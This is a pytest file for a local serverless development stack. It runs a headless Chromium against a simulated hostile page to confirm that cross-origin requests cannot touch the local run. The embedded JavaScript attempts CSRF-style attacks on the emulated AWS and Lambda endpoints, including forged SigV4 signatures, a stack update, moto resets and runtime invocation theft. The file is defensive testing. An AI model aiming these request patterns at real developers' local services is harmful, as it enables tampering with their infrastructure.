"""A page that a developer looks at while the local run is up, in a real browser."""

import asyncio
import json
import shutil
import threading
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from infra.local.platform import Platform
from infra.local.stack import BuiltStack, read_stack
from tests.canary_stack import read_alias, read_status
from tests.tiny_stack import REGION, STACK_NAME, Starter, connect

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "google-chrome"))), None)
FLAGS = (
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run"),
    *("--disable-background-networking", "--disable-component-update", "--disable-sync"),
)
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium")

# What the page knows: every address, and the names of everything; not the run's key.
PAGE = """<!doctype html>
<title>A page of somebody else</title>
<body>
<script>
const target = TARGET;
const results = {};
async function attempt(name, url, options) {
  try {
    const answer = await fetch(url, options);
    results[name] = {status: answer.status, type: answer.type, text: await answer.text()};
  } catch (error) {
    results[name] = {refused: String(error)};
  }
}
function submit(action, enctype, fields) {
  const frame = document.createElement("iframe");
  frame.name = "frame" + Math.random();
  document.body.append(frame);
  const form = document.createElement("form");
  Object.assign(form, {action, enctype, method: "POST", target: frame.name});
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("textarea");
    Object.assign(input, {name, value});
    form.append(input);
  }
  document.body.append(form);
  form.submit();
}
async function attack() {
  const form = "application/x-www-form-urlencoded";
  const update = new URLSearchParams(target.update).toString();
  const scope = "20261127/REGION/cloudformation/aws4_request";
  const forged = "AWS4-HMAC-SHA256 Credential=local/" + scope +
    ", SignedHeaders=host, Signature=" + "0".repeat(64);
  await attempt("read the API", target.api + "/echo");
  await attempt("ask the API", target.api + "/echo", {method: "POST", body: "hit"});
  await attempt("ask the API unread", target.api + "/echo",
    {method: "POST", body: "hit", mode: "no-cors"});
  await attempt("ask the API by a method of its own", target.api + "/echo", {method: "PUT"});
  await attempt("update, simple", target.aws, {method: "POST", body: update,
    headers: {"Content-Type": form}, mode: "no-cors"});
  await attempt("update, signed", target.aws, {method: "POST", body: update,
    headers: {"Content-Type": form, "Authorization": forged}});
  await attempt("update, signed in the query", target.aws + "/?X-Amz-Credential=local%2F" +
    encodeURIComponent(scope) + "&X-Amz-Algorithm=AWS4-HMAC-SHA256", {method: "POST",
    body: update, headers: {"Content-Type": form}, mode: "no-cors"});
  await attempt("reset moto", target.aws + "/moto-api/reset", {method: "POST", mode: "no-cors"});
  await attempt("read moto", target.aws + "/moto-api/data.json");
  await attempt("take work", target.runtime + "/2018-06-01/runtime/invocation/next");
  await attempt("fail the start", target.runtime + "/2018-06-01/runtime/init/error",
    {method: "POST", body: "{}", mode: "no-cors"});
  submit(target.aws + "/", form, target.update);
  submit(target.aws + "/moto-api/reset", form, {});
  submit(target.api + "/echo", "text/plain", {hit: "hit"});
  for (const url of [target.api + "/echo?hit=image", target.aws + "/moto-api/reset"]) {
    await new Promise(done => {
      const image = new Image();
      image.onload = image.onerror = done;
      image.src = url;
    });
  }
  await new Promise(done => setTimeout(done, 1000));
  await fetch("/results", {method: "POST", body: JSON.stringify(results)});
}
attack();
</script>
"""


@dataclass(frozen=True)
class Attacker:
    """A site on another port of this machine; `results` come when its page has tried all."""

    url: str
    target: dict[str, Any] = field(default_factory=dict)
    results: dict[str, Any] = field(default_factory=dict)
    done: threading.Event = field(default_factory=threading.Event)


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    class Site(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            page = PAGE.replace("TARGET", json.dumps(site.target)).replace("REGION", REGION)
            self._answer(page.encode())

        def do_POST(self) -> None:
            site.results.update(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
            self._answer(b"")
            site.done.set()

        def _answer(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Site) as server:
        site = Attacker(f"http://127.0.0.1:{server.server_port}")
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield site
        server.shutdown()
        thread.join()


async def browse(url: str, profile: Path, done: threading.Event | None = None) -> str:
    """Open a page in the browser until it is done; return its text if it never says so."""
    assert CHROMIUM
    ends = () if done else ("--dump-dom", "--virtual-time-budget=10000")
    process = await asyncio.create_subprocess_exec(
        *(CHROMIUM, *FLAGS, f"--user-data-dir={profile}", *ends, url),
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.DEVNULL,
    )
    try:
        async with asyncio.timeout(90):
            if done:
                assert await asyncio.to_thread(done.wait, 80)
                return ""
            output, _ = await process.communicate()
            return output.decode()
    finally:
        if process.returncode is None:
            process.kill()
            await process.communicate()


@pytest.fixture
async def local(start: Starter, build: Path) -> Platform:
    def read(body: str | None, parameters: Mapping[str, str]) -> BuiltStack:
        return read_stack(build, STACK_NAME, REGION, parameters, body)

    return await start(read=read)


async def test_a_page_does_nothing_to_the_local_run(
    local: Platform, build: Path, attacker: Attacker, tmp_path: Path
) -> None:
    # GIVEN a page that knows every address, and what it would like to have released
    async with httpx.AsyncClient(base_url=local.url) as client:
        environment = (await client.get("/echo")).json()["environment"]
    connect(local, "sqs").create_queue(QueueName="kept")
    body = (build / "template.yaml").read_text()
    attacker.target.update(
        api=local.url,
        aws=local.aws_endpoint_url,
        runtime=f"http://{environment['AWS_LAMBDA_RUNTIME_API']}",
        update={
            "Action": "UpdateStack",
            "Version": "2010-05-15",
            "StackName": STACK_NAME,
            "TemplateBody": body.replace("GREETING: hello", "STOLEN: hit"),
        },
    )
    # WHEN somebody looks at it
    await browse(attacker.url, tmp_path / "profile", attacker.done)
    # THEN it could read no answer: not even that it was refused
    assert len(attacker.results) == 11
    for name, result in attacker.results.items():
        assert "refused" in result or result["type"] == "opaque", name
    # AND nothing was done: no release, no reset, and the function was asked nothing
    assert read_alias(local) == ("1", {})
    assert read_status(local)[0] == "CREATE_COMPLETE"
    assert connect(local, "sqs").list_queues()["QueueUrls"]
    async with httpx.AsyncClient(base_url=local.url) as client:
        assert "STOLEN" not in (await client.get("/echo")).json()["environment"]
    log = (tmp_path / "local" / "logs" / "1.log").read_text()
    assert log.count("START RequestId: ") == 2


async def test_the_pages_of_the_api_itself_work(
    build: Path, start: Starter, tmp_path: Path
) -> None:
    # GIVEN a function whose page asks the API, as /docs does
    page = (
        "<script>fetch('/echo?from=page', {method: 'POST', body: 'x'})"
        ".then(answer => answer.json())"
        ".then(told => document.title = told.greeting)</script>"
    )
    handler = build / "InferenceFunction" / "app.py"
    answer = {"statusCode": 200, "headers": {"Content-Type": "text/html"}, "body": page}
    case = f'        case "/page":\n            return {answer!r}\n        case "/raise":'
    handler.write_text(handler.read_text().replace('        case "/raise":', case))
    local = await start()
    # WHEN it is opened THEN it gets its answer
    shown = await browse(f"{local.url}/page?{quote('a b')}", tmp_path / "profile")
    assert "<title>good morning</title>" in shown
